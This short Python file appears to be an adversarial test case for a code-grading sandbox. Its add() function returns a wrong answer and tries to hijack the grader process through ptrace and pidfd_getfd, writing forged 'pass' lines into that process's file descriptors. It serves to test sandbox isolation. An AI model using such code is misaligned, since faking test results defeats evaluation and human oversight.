# problem: script
# attack: takes the descriptors of the process of the assertions by pidfd_getfd and ptrace, and writes passes to them
# expect: wrong | exception | early-exit | tampered
import ctypes
import os


def neighbour():
    """The process forked just before this one, if this is a cell of its own: elsewhere nobody is touched."""
    return os.getpid() - 1 if os.getppid() == 1 else 0


PASSES = b"".join(b"%d pass 0123456789abcdef\n" % n for n in range(9))


def add(a, b):
    libc = ctypes.CDLL(None, use_errno=True)
    if not neighbour():
        return 41
    libc.ptrace(16, neighbour(), 0, 0)  # PTRACE_ATTACH
    libc.ptrace(0x4206, neighbour(), 0, 0)  # PTRACE_SEIZE
    buffer = ctypes.create_string_buffer(64)
    libc.process_vm_readv(neighbour(), buffer, 1, buffer, 1, 0)
    try:
        process = os.pidfd_open(neighbour())
    except OSError:
        return 41
    for number in range(3, 32):
        fd = libc.syscall(438, process, number, 0)  # pidfd_getfd
        if fd >= 0:
            os.write(fd, PASSES)
    return 41
